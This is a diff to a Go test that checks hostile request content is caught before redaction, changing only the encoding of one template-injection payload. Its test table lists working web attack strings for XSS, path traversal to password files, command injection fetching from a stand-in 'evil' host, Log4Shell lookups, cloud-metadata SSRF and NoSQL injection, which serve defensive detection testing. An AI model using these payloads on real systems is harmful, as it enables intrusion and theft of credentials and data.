@@ -218,7 +218,7 @@ func TestHostileContentIsSeenBeforeItIsRedacted(t *testing.T) {
 		"xss":       {"/a?q=<script>alert(1)</script>", "/a?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "/a?u=javascript:alert(1)", `/a?q="><svg/onload=alert(1)>`},
 		"traversal": {"/../../etc/passwd", "/a?f=../../../etc/passwd", "/a?f=..%2f..%2f..%2fetc%2fshadow", "/a?f=..\\..\\windows\\win.ini", "/static/%2e%2e/%2e%2e/%2e%2e/secret"},
 		"rce":       {"/a?h=127.0.0.1;cat%20/etc/passwd", "/a?h=|id", "/a?h=%60whoami%60", "/a?x=$(curl%20http://evil)", "/a?x=%26%26+wget+http://evil"},
-		"template":  {"/a?n={{7*7}}", "/a?n=${7*7}", "/a?n=#{7*7}", "/a?n={{config.items()}}"},
+		"template":  {"/a?n={{7*7}}", "/a?n=${7*7}", "/a?n=%23{7*7}", "/a?n={{config.items()}}"},
 		"log4shell": {"/a?x=${jndi:ldap://evil/a}", "/a?x=$%7Bjndi:dns://evil%7D", "/${${lower:j}ndi:ldap://x}"},
 		"ssrf":      {"/a?u=http://169.254.169.254/latest/meta-data/", "/a?u=gopher://127.0.0.1:6379/_x", "/a?u=file:///etc/hosts"},
 		"nosql":     {"/a?user[$ne]=x", "/a?password[$regex]=.*"},
